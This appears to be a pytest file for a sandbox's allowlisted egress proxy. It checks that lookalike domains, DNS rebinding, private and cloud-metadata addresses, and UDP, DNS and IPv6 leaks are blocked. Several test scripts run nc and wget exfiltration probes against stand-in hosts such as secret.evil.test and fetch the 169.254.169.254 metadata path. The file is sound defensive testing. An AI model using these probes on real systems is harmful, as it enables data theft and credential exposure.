"""Allowlisted egress through the planted proxy (NET-01..12), rootful.

Every server here is started by the test; the sandbox itself has no route
anywhere (`--network none`), only the proxy socket Vectra Guard plants on
its loopback. The runs whose checks could send a packet somewhere if they
were broken (names, metadata addresses) run inside a private network
namespace with only `lo` (tests/support/netns.py), where the servers are
too; names resolve through the profile's hosts file, never /etc/hosts.
"""

from __future__ import annotations

import signal
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.netns import TRAP_ADDRESSES, Netns, private_netns
from tests.support.vg import Caller, outcome
from tests.support.web import serve

P = ["run", "-p", "test-untrusted"]


_GROUND: list[Netns] = []  # the namespace of the test running now (one at a time)


@pytest.fixture(autouse=True)
def ground() -> Iterator[Netns]:
    """Every run in this module (through inside() and ns()) happens in a private namespace."""
    with private_netns(TRAP_ADDRESSES) as netns:
        _GROUND[:] = [netns]
        try:
            yield netns
        finally:
            _GROUND.clear()


def ns() -> str:
    return _GROUND[0].name


@pytest.fixture
def web(ground: Netns) -> Iterator[tuple[int, list[str]]]:
    with serve(ground.listen("127.0.0.1")) as server:
        yield server


def inside(caller: Caller, cwd: Path, script: str, *options: str) -> str:
    result = caller.run([*P, *options, "--", "sh", "-c", script], cwd=cwd, timeout=120, netns=ns())
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout.decode()


def last_network(caller: Caller, cwd: Path) -> list[dict[str, Any]]:
    return outcome(caller.last_session(cwd, netns=ns())["events"])["network"]  # type: ignore[no-any-return]


def hosts_file(directory: Path, name: str, address: str) -> list[str]:
    """The options making the proxy's resolver answer `address` for `name` (network.hosts_file)."""
    path = directory / "egress-hosts"
    path.write_text(f"{address} {name}\n")
    path.chmod(0o644)
    return ["--set", f"network.hosts_file={path}"]


def test_an_allowed_destination_works_through_the_proxy_and_is_audited(
        root: Caller, workspace: Path, web: tuple[int, list[str]]) -> None:
    port, hits = web
    out = inside(root, workspace, f"wget -q -O - http://127.0.0.1:{port}/allowed", "--allow", f"127.0.0.1/32:{port}")
    assert out == "hello /allowed\n" and hits == ["/allowed"]
    [entry] = last_network(root, workspace)
    assert (entry["decision"], entry["host"], entry["port"], entry["address"]) == ("allowed", "127.0.0.1", port,
                                                                                   "127.0.0.1")
    assert entry["bytes_in"] > 0 and entry["bytes_out"] > 0


def test_connect_tunnels_to_an_allowed_port_only(root: Caller, workspace: Path, web: tuple[int, list[str]]) -> None:
    port, hits = web
    script = (f"printf 'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\nGET /tunnel HTTP/1.0\\r\\n\\r\\n' "
              "| nc 127.0.0.1 3128; "
              "printf 'CONNECT 127.0.0.1:22 HTTP/1.1\\r\\n\\r\\n' | nc 127.0.0.1 3128")
    out = inside(root, workspace, script, "--allow", f"127.0.0.1/32:{port}")
    assert "HTTP/1.1 200 Connection established" in out and "hello /tunnel" in out
    assert "HTTP/1.1 403 Forbidden" in out and "127.0.0.1:22 is not allowed: port 22 is not allowed for this host" in out
    assert "To allow it: --allow 127.0.0.1:22" in out
    assert hits == ["/tunnel"]


CIDR = "127.0.0.1/32:{port}"


@pytest.mark.parametrize(("url", "allow", "why"), [
    ("http://127.0.0.1:{port2}/", CIDR, "is not allowed for this host"),             # other port
    ("http://unlisted.invalid:{port}/", CIDR, "no network.allow entry matches"),     # unlisted name
    ("http://2130706433:{port}/", CIDR, "no network.allow entry matches"),           # decimal IP literal
    ("http://[::1]:{port}/", CIDR, "no network.allow entry matches"),                # IPv6 literal
    ("http://pypi.org.evil.invalid/", "pypi.org", "no network.allow entry matches"),  # lookalike domains
    ("http://evilpypi.org/", "pypi.org", "no network.allow entry matches"),
    ("http://pypi.org.:8080/", "pypi.org", "is not allowed for this host"),          # listed host, other port
    # A listed *name* that resolves to loopback (DNS rebinding): refused unless a CIDR names it.
    ("http://localhost:{port}/", "localhost:{port}", "is loopback"),
    ("http://169.254.169.254/latest/meta-data/", "169.254.169.254/32:80", "cloud instance metadata service"),
])
def test_denied_destinations_get_403_and_no_traffic(root: Caller, workspace: Path, web: tuple[int, list[str]],
                                                    url: str, allow: str, why: str) -> None:
    port, hits = web
    target = url.format(port=port, port2=port + 1)
    result = root.run([*P, "--allow", allow.format(port=port), "--", "sh", "-c", f"wget -O - {target} 2>&1; echo rc=$?"],
                      cwd=workspace, netns=ns())
    out = result.stdout.decode()
    assert "403 Forbidden" in out and "rc=1" in out, out
    assert hits == []
    entries = last_network(root, workspace)
    assert entries and entries[-1]["decision"] == "denied" and why in entries[-1]["reason"]


def test_nothing_bypasses_the_proxy(root: Caller, workspace: Path, web: tuple[int, list[str]]) -> None:
    """NET-05/08/12: without the proxy variables, straight to the server, DNS, UDP: nothing leaves."""
    port, hits = web
    script = (f"unset http_proxy HTTP_PROXY https_proxy HTTPS_PROXY; "
              f"wget -q -T 3 -O - http://127.0.0.1:{port}/direct 2>&1; echo wget=$?; "
              f"nslookup example.com 2>&1 >/dev/null; echo dns=$?; "
              f"echo x | nc -u -w 1 127.0.0.1 {port}; ls /sys/class/net; ip route | wc -l")
    out = inside(root, workspace, script, "--allow", f"127.0.0.1/32:{port}")
    assert "wget=0" not in out and "dns=0" not in out
    assert out.splitlines()[-2:] == ["lo", "0"]
    assert hits == []


def test_the_sandbox_cannot_change_its_network(root: Caller, workspace: Path) -> None:
    """NET-10."""
    out = inside(root, workspace, "ip route add 10.0.0.0/8 dev lo 2>&1; echo route=$?; "
                                   "echo 'nameserver 10.0.0.1' > /etc/resolv.conf 2>&1; echo resolv=$?; "
                                   "ip link set lo down 2>&1; echo link=$?", "--allow", "127.0.0.1/32:9",
                 "--yes")  # writing /etc is asked about first: approved, to see it fail inside
    assert "route=0" not in out and "resolv=0" not in out and "link=0" not in out


def test_bad_allowlist_entries_are_refused(root: Caller, workspace: Path) -> None:
    for entry, message in (("*.com", "is too wide"), ("host:http", "the port must be a number"),
                           ("a*b.example.com", "is not host[:port]")):
        result = root.run([*P, "--allow", entry, "--", "true"], cwd=workspace)
        assert result.returncode == 125
        assert message in result.stderr.decode()


def test_policy_can_forbid_the_allowlist_mode(root: Caller, workspace: Path, tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text("version: 1\nnetwork:\n  modes: [none]\n")
    tmp_path.chmod(0o755)
    result = root.run([*P, "--allow", "127.0.0.1/32:80", "--", "true"], cwd=workspace,
                      extra_env={"VECTRAGUARD_SYSTEM_DIR": str(tmp_path)})
    assert result.returncode == 125
    assert "allowlist is not an allowed network mode (none)" in result.stderr.decode()


def test_rootless_allowlist_works_through_a_podman_unshare_helper(
        rootless: Caller, rootless_workspace: Path) -> None:
    """In the host's namespace (the rootless service lives there): only an allowed loopback server is reached."""
    with serve() as (port, hits):
        _rootless_run(rootless, rootless_workspace, port, hits)


def _rootless_run(rootless: Caller, rootless_workspace: Path, port: int, hits: list[str]) -> None:
    upstream_name = UPSTREAM
    hosts = rootless_workspace.parent / f"{rootless_workspace.name}-hosts"
    hosts.write_text(f"127.0.0.1 {UPSTREAM}\n")
    hosts.chmod(0o644)
    script = (f"wget -q -O - http://127.0.0.1:{port}/via-proxy; echo rc=$?; "
              f"wget -q -O - http://127.0.0.1:{port + 1}/ 2>&1; echo rc=$?; "
              f"unset http_proxy HTTP_PROXY; wget -q -O - http://{upstream_name}:{port}/via-forwarder")
    result = rootless.run(["run", "-p", "test-best-effort", "--allow", f"127.0.0.1/32:{port}",
                           "--allow", f"{upstream_name}:{port}", "--set", f"network.hosts_file={hosts}",
                           "--", "sh", "-c", script], cwd=rootless_workspace)
    out = result.stdout.decode()
    assert result.returncode == 0, result.stderr.decode()
    assert out.splitlines()[:2] == ["hello /via-proxy", "rc=0"]
    assert "403 Forbidden" in out and "rc=1" in out
    assert out.splitlines()[-1] == "hello /via-forwarder"
    assert hits == ["/via-proxy", "/via-forwarder"]


def test_the_proxy_listens_only_inside_the_sandbox_and_only_while_it_runs(root: Caller, workspace: Path) -> None:
    """The planted listener is in the sandbox's namespace, not the host's; it goes with the session."""
    argv, env = root.argv(root.vg([*P, "--allow", "127.0.0.1/32:9", "--", "sh", "-c",
                                   "printf 'BAD\\r\\n\\r\\n' | nc -w 5 127.0.0.1 3128 | grep -q '400 Bad Request' "
                                   "&& echo proxy-inside; echo ready; sleep 300"]))
    proc = subprocess.Popen(argv, cwd=workspace, env=env, stdout=subprocess.PIPE, stdin=subprocess.DEVNULL,
                            start_new_session=True)
    assert proc.stdout is not None
    try:
        assert proc.stdout.readline() == b"proxy-inside\n"
        assert proc.stdout.readline() == b"ready\n"
        with socket.socket() as probe:  # while the session runs, the host's own loopback has nothing there
            assert probe.connect_ex(("127.0.0.1", 3128)) != 0
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.communicate(timeout=60)
    assert proc.returncode == 143


UPSTREAM = "vg-upstream.test"


def test_a_transparent_forwarder_serves_clients_that_ignore_proxies(
        root: Caller, workspace: Path, web: tuple[int, list[str]], tmp_path: Path) -> None:
    port, hits = web
    upstream_name = UPSTREAM
    script = (f"unset http_proxy HTTP_PROXY https_proxy HTTPS_PROXY; grep {upstream_name} /etc/hosts; "
              f"wget -q -O - http://{upstream_name}:{port}/forwarded; "
              f"printf 'GET /raw HTTP/1.0\\r\\n\\r\\n' | nc {upstream_name} {port} | tail -1")
    out = inside(root, workspace, script, "--allow", f"{upstream_name}:{port}", "--allow", f"127.0.0.1/32:{port}",
                 *hosts_file(tmp_path, UPSTREAM, "127.0.0.1"))
    lines = out.splitlines()
    assert lines[0].split() == ["127.0.0.10", upstream_name]
    assert lines[1:] == ["hello /forwarded", "hello /raw"]
    assert hits == ["/forwarded", "/raw"]
    entries = last_network(root, workspace)
    assert [(e["via"], e["decision"]) for e in entries] == [("forwarder", "allowed"), ("forwarder", "allowed")]


def test_a_denied_forwarded_connection_is_closed_at_once(
        root: Caller, workspace: Path, web: tuple[int, list[str]], tmp_path: Path) -> None:
    port, hits = web
    upstream_name = UPSTREAM
    # The name is listed, but it resolves to loopback and no CIDR names that.
    out = inside(root, workspace, f"printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc {upstream_name} {port}; echo done",
                 "--allow", f"{upstream_name}:{port}", *hosts_file(tmp_path, UPSTREAM, "127.0.0.1"))
    assert out == "done\n"  # closed at once, nothing came back
    assert hits == []
    [entry] = last_network(root, workspace)
    assert (entry["via"], entry["decision"]) == ("forwarder", "denied")
    assert "127.0.0.1 is loopback" in entry["reason"]


def _udp_socket() -> socket.socket:
    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dns.bind(("127.0.0.1", 0))
    return dns


def test_no_dns_udp_or_ipv6_leaves_the_sandbox(root: Caller, workspace: Path, ground: Netns) -> None:
    """NET-08/09/12: a fake DNS server and an IPv6 server where the run is see nothing."""
    dns = ground.call(_udp_socket)
    dns.settimeout(0.5)
    v6 = ground.listen("::1")
    v6.settimeout(0.5)
    dns_port, v6_port = dns.getsockname()[1], v6.getsockname()[1]
    try:
        out = inside(root, workspace,
                     f"echo secret.evil.test | nc -u -w 1 127.0.0.1 {dns_port}; echo udp=$?; "
                     f"nslookup secret.evil.test 2>&1 >/dev/null; echo dns=$?; "
                     f"nc -w 2 ::1 {v6_port} </dev/null 2>&1; echo v6=$?; "
                     f"wget -q -O - http://secret.evil.test/ 2>&1; echo proxied=$?",
                     "--allow", "127.0.0.1/32:9")
        assert "dns=0" not in out and "v6=0" not in out and "proxied=0" not in out
        with pytest.raises(socket.timeout):
            dns.recvfrom(512)
        with pytest.raises(socket.timeout):
            v6.accept()
        denied = [e for e in last_network(root, workspace) if e["host"] == "secret.evil.test"]
        assert denied and denied[0]["reason"] == "no network.allow entry matches"  # refused before any lookup
    finally:
        dns.close()
        v6.close()


def test_full_network_needs_approval_and_no_terminal_means_no(root: Caller, workspace: Path) -> None:
    # root.run starts vectraguard without a controlling terminal (no /dev/tty).
    result = root.run(["run", "-p", "test-default", "--network", "full", "--", "true"], cwd=workspace)
    assert result.returncode == 125
    assert result.stderr.decode().startswith(
        "vectraguard: `true` needs approval, and there is no terminal to ask on; run it from a terminal to be "
        "asked, or pass --yes\n  network (network-full): network.mode: full (set by command line)")


def test_full_network_with_yes_gets_an_interface_and_the_approval_is_recorded(root: Caller, workspace: Path) -> None:
    result = root.run(["run", "-p", "test-default", "--network", "full", "--yes", "--", "ls", "/sys/class/net"],
                      cwd=workspace)
    assert result.returncode == 0, result.stderr.decode()
    assert set(result.stdout.decode().split()) - {"lo"}  # a real interface besides loopback
    [approved] = outcome(root.last_session(workspace)["events"])["approvals"]
    assert (approved["decision"], approved["by"]) == ("approved", "--yes")
    assert [f["rule"] for f in approved["findings"]] == ["network-full"]


def test_a_listed_name_rebinding_to_a_private_address_is_refused(
        root: Caller, workspace: Path, tmp_path: Path) -> None:
    """NET-07: refused before any connection is attempted (so nothing is sent to that address)."""
    out = inside(root, workspace, "wget -O - http://vg-private.test/ 2>&1; echo rc=$?", "--allow", "vg-private.test",
                 *hosts_file(tmp_path, "vg-private.test", "10.255.255.1"))
    assert "403 Forbidden" in out and "rc=1" in out
    [entry] = last_network(root, workspace)
    assert entry["decision"] == "denied" and entry["address"] is None
    assert "10.255.255.1 is private" in entry["reason"] and entry["refusal"] == "special-address"
